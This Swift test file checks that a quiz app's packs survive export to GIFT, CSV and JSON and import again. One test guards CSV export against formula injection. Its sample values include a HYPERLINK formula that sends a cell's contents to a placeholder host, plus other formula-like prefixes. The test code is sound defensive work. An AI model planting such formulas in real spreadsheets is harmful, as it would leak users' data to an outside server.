import Foundation
import Testing

@testable import QuizCore
@testable import QuizPacks

/// A pack exported and imported again is the same pack: every kind an import makes, with every field it keeps, and a
/// mixed pack of them all, in its order and with its sections.
@Suite("Export and import again: GIFT, CSV and JSON give back the same pack")
struct RoundTripTests {
    private static let corpus = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .deletingLastPathComponent().appendingPathComponent("Fixtures/ImportCorpus/gift")

    /// Every kind and field an import makes: categories and a statement without one, a line break and GIFT's own
    /// characters in a question, alternatives, numbers with margins and ranges, several right answers.
    private static let bank = #"""
        ::No category:: Is 1 \= 1 \{always\}\: yes or no? {TRUE}

        $CATEGORY: $course$/top/Europe

        ::France:: Which city is\nthe capital of France? {=Paris ~Lyon ~Marseille ~Nice}

        ::UK:: Name the country of London. {=United Kingdom =%50%UK =%50%Britain}

        ::Danube:: How long is the Danube, in km? {#=2850:50 =%50%2850:300 =2800..2900}

        ::Rivers:: Which capitals stand on the Danube? {~%50%Vienna ~%50%Budapest ~%-100%Prague ~%-100%Warsaw}

        ::Bern:: Bern is the capital of Switzerland. {T}

        $CATEGORY: $course$/top/Numbers

        ::Three:: Which are odd? {~%33.33333%1 ~%33.33333%3 ~%33.33333%5 ~%-100%2 ~%-100%4}

        ::Pi:: Pi to two places? {#3.14}

        ::Grant:: Grant is buried in Grant's tomb. {FALSE}
        """#

    private static func importing(_ path: String, name: String? = nil) throws -> [Pack] {
        try PackImporter(name: name, language: "en").importFiles([path]).packs
    }

    /// The packs of `file`, each exported as `format` and imported again under its name, from a file of the same
    /// name so that the title is the same.
    private static func roundTrip(_ packs: [Pack], as format: PackExporter.Format, named base: String) throws
        -> [Pack]
    {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("round-trip-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        return try packs.flatMap { pack -> [Pack] in
            switch format {
            case .json:
                return [try PackReader.read(Array(try PackFile.encoded(pack, file: "\(pack.name).json")), file: "p")]
            case .gift, .csv:
                let file = folder.appendingPathComponent("\(base).\(format.rawValue)")
                let text = format == .gift ? PackExporter.gift(pack) : PackExporter.csv(pack)
                try text.write(to: file, atomically: true, encoding: .utf8)
                return try importing(file.path, name: pack.name)
            }
        }
    }

    @Test("a bank of every kind and field", arguments: PackExporter.Format.allCases)
    func bank(_ format: PackExporter.Format) throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("bank-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let file = folder.appendingPathComponent("bank.gift")
        try Self.bank.write(to: file, atomically: true, encoding: .utf8)
        let packs = try Self.importing(file.path)
        #expect(packs.map(\.kind) == [.mixed])
        #expect(packs.map(\.count) == [9])
        #expect(try Self.roundTrip(packs, as: format, named: "bank") == packs)
    }

    @Test(
        "the corpus files that hold numerical and multiple-response questions",
        arguments: PackExporter.Format.allCases,
        [
            "written-moodle-export-mixed.gift.txt", "peg-numerical1.gift", "peg-multipleAnswersFloat.gift",
            "peg-options1.gift",
        ])
    func corpus(_ format: PackExporter.Format, _ file: String) throws {
        let packs = try PackImporter(format: .gift, language: "en", skipBad: true)
            .importFiles([Self.corpus.appendingPathComponent(file).path]).packs
        let base = URL(fileURLWithPath: file).deletingPathExtension().lastPathComponent
        // CSV has no column for pairs nor for an open question: an export to it leaves them out.
        let csvLacks: Set<ItemKind> = [.pairs, .open]
        if format == .csv, packs.contains(where: { !csvLacks.isDisjoint(with: $0.itemKinds) }) {
            let written = packs.map(PackExporter.csv).joined()
            #expect(!written.contains("Match each country") && !written.contains("capitals grew on rivers"))
            return
        }
        #expect(try Self.roundTrip(packs, as: format, named: base) == packs)
    }

    @Test("a slider is a number on a scale of no credit in GIFT, and an import makes it a slider again")
    func slider() throws {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("slider-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let file = folder.appendingPathComponent("estimates.gift")
        try #"""
        Apollo 11 landed in what year? {#=1969:2 =%0%1900..2000}

        Pi to two places? {#=3.14:0.01 =%0%0..10}

        A scale that misses its answer is a number typed. {#=50 =%0%0..10}
        """#.write(to: file, atomically: true, encoding: .utf8)
        let packs = try Self.importing(file.path)
        guard case .mixed(let items) = packs.first?.items, items.count == 3 else {
            Issue.record("expected a mixed pack of three items")
            return
        }
        #expect(
            items[0].content
                == .slider(
                    SliderItem(
                        id: 1, question: "Apollo 11 landed in what year?", low: 1900, high: 2000, answer: 1969,
                        tolerance: 2)))
        #expect(
            items[1].content
                == .slider(
                    SliderItem(
                        id: 2, question: "Pi to two places?", low: 0, high: 10, step: 0.01, answer: 3.14,
                        tolerance: 0.01)))
        #expect(items[2].kind == .quiz)
        #expect(PackExporter.gift(packs[0]).contains("Apollo 11 landed in what year? {# =1969:2 =%0%1900..2000}"))
        #expect(try Self.roundTrip(packs, as: .gift, named: "estimates") == packs)
    }

    @Test("a CSV export writes texts that start as formulas as text, and imports them back as they were")
    func formulasInCSV() throws {
        let texts = [#"=HYPERLINK("http://x.test/?"&A1,"Pulsa")"#, "+1+2", "@SUM(1)", "-3 grados"]
        let items = texts.enumerated().map { index, text in
            QuizItem(id: index + 1, question: text, author: QuizAuthor(username: "=1+1"), answer: text)
        }
        let pack = Pack(name: "formulas", title: "formulas", language: "es", items: .quiz(items))
        let lines = PackExporter.csv(pack).split(separator: "\n")
        #expect(
            lines[1]
                == #"'=1+1,"'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")","'=HYPERLINK(""http://x.test/?""&A1,""Pulsa"")""#
        )
        #expect(lines[2] == "'=1+1,'+1+2,'+1+2")
        #expect(lines[3] == "'=1+1,'@SUM(1),'@SUM(1)")
        #expect(lines[4] == "'=1+1,'-3 grados,'-3 grados")
        #expect(CSVField.escaped("\tcmd") == "'\tcmd" && CSVField.escaped("\r=1") == "\"'\r=1\"")
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("formulas-\(UUID())")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(at: folder) }
        let file = folder.appendingPathComponent("formulas.csv")
        try PackExporter.csv(pack).write(to: file, atomically: true, encoding: .utf8)
        let back = try Self.importing(file.path)
        guard case .quiz(let read) = back.first?.items else {
            Issue.record("not a quiz pack")
            return
        }
        #expect(read.map(\.question) == texts)
        #expect(read.map(\.answer) == texts)
    }
}
